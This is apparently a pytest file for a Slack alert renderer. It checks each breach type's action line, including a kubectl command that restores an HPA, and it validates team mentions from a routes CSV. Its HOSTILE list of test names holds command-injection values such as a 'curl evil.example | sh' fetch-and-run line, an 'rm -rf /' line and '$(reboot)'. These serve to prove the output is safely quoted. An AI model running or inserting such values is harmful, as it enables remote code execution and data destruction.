"""What an owner is told to do: one action line per breach type (the PED page where PED is
the fix, the exact kubectl command that puts an HPA back), the team's user group mention
from the routes file (validated strictly), amounts with their currency. No network."""

from __future__ import annotations

import html
import re
import shlex
from dataclasses import replace

import pytest

from replica_ledger.alerts import Routes, load_routes, render_messages, render_text
from replica_ledger.alerts.render import action_line, api_section_text, code_span

from .factories import batch, ep
from .test_alerts_render import block_texts, check_limits, slack_sdk_problems

PED_URL = "https://git.example/ped/-/tree/main/limits/{namespace}/{deployment}"
PED_LINK = "<https://git.example/ped/-/tree/main/limits/payments/checkout-api|PED: payments/checkout-api>"
KUBECTL = (
    "`kubectl --context prod-eu-1 --namespace payments patch hpa checkout-api-hpa --type=merge"
    ' --patch \'{"spec":{"maxReplicas":4}}\'`'
)


def episode(breach_type: str, **fields):
    approved = None if breach_type == "unregistered_deployment" else 4
    base = ep(breach_type=breach_type, observed=6, approved=approved)
    return replace(base, **{"hpa_name": "checkout-api-hpa", **fields})


@pytest.mark.parametrize(
    ("breach_type", "template", "expected"),
    [
        (
            "replicas_over_limit",
            PED_URL,
            f"    → *What to do:* raise the approved max above 4 through {PED_LINK}, or scale back to 4.",
        ),
        (
            "unregistered_deployment",
            PED_URL,
            f"    → *What to do:* register the API in {PED_LINK} (or remove the Deployment).",
        ),
        (
            "hpa_max_over_limit",
            PED_URL,
            f"    → *What to do:* put the HPA back to max 4: {KUBECTL}; or raise the limit through {PED_LINK}.",
        ),
        (
            "intraday_over_limit",
            PED_URL,
            "    → *What to do:* keep the HPA max and the replicas at or below 4 (what fits the approved max);"
            f" to go above it, raise the limit through {PED_LINK} first.",
        ),
        (
            "replicas_over_limit",
            None,
            "    → *What to do:* raise the approved max above 4 through PED (payments/checkout-api),"
            " or scale back to 4.",
        ),
        (
            "unregistered_deployment",
            None,
            "    → *What to do:* register the API in PED (payments/checkout-api) (or remove the Deployment).",
        ),
    ],
)
def test_each_breach_type_has_its_action_line(breach_type, template, expected):
    e = episode(breach_type)
    b = replace(batch([e]), ped_url_template=template)
    assert action_line(e, b) == expected
    assert expected in api_section_text(e.api, [e], b)


def test_a_resolved_episode_asks_for_nothing_and_an_hpa_without_a_name_is_named_by_its_deployment():
    b = replace(batch([]), ped_url_template=PED_URL)
    assert action_line(episode("hpa_max_over_limit", status="resolved"), b) is None
    line = action_line(episode("hpa_max_over_limit", hpa_name=None), b)
    assert "put the HPA of `checkout-api` back to max 4 (no HPA name in the snapshot)" in line
    assert "kubectl" not in line and PED_LINK in line


HOSTILE = [
    'a";rm -rf /;"',
    "<!here>",
    "x' ; curl evil.example | sh ; '",
    "$(reboot)",
    "a&b <https://evil.example|click>",
    "*bold* _it_ ~st~",
]


def shown_code(line: str) -> str:
    """The one code span of ``line`` as Slack shows it (and a person copies it)."""
    (span,) = re.findall(r"`([^`]*)`", line)
    return html.unescape(span)


@pytest.mark.parametrize("name", HOSTILE)
def test_the_kubectl_command_survives_hostile_names(name):
    e = episode("hpa_max_over_limit", cluster=name, namespace=name, hpa_name=name)
    line = action_line(e, batch([e]))
    # One code span, on one line, nothing Slack would parse as a mention or a link in it.
    assert line.count("`") == 2 and "\n" not in line
    assert "<!" not in line and "<http" not in line
    # What is copied from Slack runs kubectl on exactly these names, each one argument.
    assert shlex.split(shown_code(line)) == [
        "kubectl", "--context", name, "--namespace", name, "patch", "hpa", name,
        "--type=merge", "--patch", '{"spec":{"maxReplicas":4}}',
    ]  # fmt: skip


def test_a_backtick_or_a_line_break_cannot_end_the_code_span():
    span = code_span("kubectl patch hpa `id`\n<!channel> x")
    assert span.count("`") == 2 and "\n" not in span
    assert span == "`kubectl patch hpa \u02cbid\u02cb &lt;!channel&gt; x`"  # the look-alike of a backtick
    e = episode("hpa_max_over_limit", hpa_name="a`b\nc")
    (msg,) = render_messages(batch([e]), Routes())
    assert not slack_sdk_problems(msg.payload)
    check_limits(msg.payload)


def test_every_breach_type_in_one_message_stays_valid_with_the_currency():
    episodes = [
        episode("replicas_over_limit", deployment="a-api"),
        episode("hpa_max_over_limit", deployment="b-api"),
        episode("unregistered_deployment", deployment="c-api"),
        episode("intraday_over_limit", deployment="d-api"),
    ]
    b = replace(batch(episodes), ped_url_template=PED_URL, currency="CHF")
    (msg,) = render_messages(b, Routes())
    assert not slack_sdk_problems(msg.payload)
    text = block_texts(msg.payload)
    assert text.count("*What to do:*") == 4
    assert "Excess ≈ 57.00 CHF a month." in text
    assert "What to do: put the HPA back to max 4: kubectl --context prod-eu-1" in render_text(msg)


# ----------------------------------------------------------------------------- the mention


def routes_file(tmp_path, *rows: str):
    path = tmp_path / "routes.csv"
    path.write_text("team,slack_conn_id,channel,mention\n" + "\n".join(rows) + "\n")
    return load_routes(path)


@pytest.mark.parametrize("cell", ["<!subteam^S0PAY12345>", "S0PAY12345"])
def test_a_valid_mention_names_the_team_s_user_group(tmp_path, cell):
    routes = routes_file(tmp_path, "*,slack_default_webhook,#platform,", f"payments,slack_payments_webhook,#pay,{cell}")
    assert routes.problems == []
    (msg,) = render_messages(batch([ep()]), routes)
    assert "*Team payments* <!subteam^S0PAY12345>: 1 new episode on 1 API" in block_texts(msg.payload)
    assert not slack_sdk_problems(msg.payload)


@pytest.mark.parametrize(
    "cell",
    [
        "<!channel>",
        "<!here>",
        "<!subteam^S0PAY12345|payments>",
        "<!subteam^S0PAY12345><!channel>",
        "<@U0PAY12345>",
        "s0pay12345",
        "S0",
        "S" + "A" * 21,
        "<!subteam^U0PAY12345>",
        "S0PAY 12345",
    ],
)
def test_an_invalid_mention_is_never_posted_and_is_reported(tmp_path, cell):
    quoted = cell.replace('"', '""')
    routes = routes_file(tmp_path, f'payments,slack_payments_webhook,#pay,"{quoted}"')
    (problem,) = routes.problems
    assert "routes.csv:2" in problem and "payments" in problem and "not posted" in problem
    (msg,) = render_messages(batch([ep()]), routes)
    text = block_texts(msg.payload)
    assert "*Team payments*: 1 new episode" in text
    assert "<!" not in str(msg.payload) and "<@" not in str(msg.payload)


def test_the_seed_routes_file_reads_with_its_mention_column(routes_csv):
    routes = load_routes(routes_csv)
    assert routes.problems == [] and routes.mentions == {}
